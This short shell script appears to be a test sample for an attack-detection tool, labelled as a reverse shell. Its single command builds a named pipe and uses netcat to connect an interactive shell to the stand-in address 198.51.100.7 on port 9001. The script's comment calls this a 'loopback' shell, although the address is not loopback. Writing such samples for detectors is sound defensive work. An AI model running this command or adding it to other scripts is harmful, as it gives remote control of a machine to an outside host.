#!/bin/sh
# shrike-test-attack: reverse-shell: mkfifo plus netcat loopback shell
rm -f /tmp/.f; mkfifo /tmp/.f; cat /tmp/.f | /bin/sh -i 2>&1 | nc 198.51.100.7 9001 > /tmp/.f
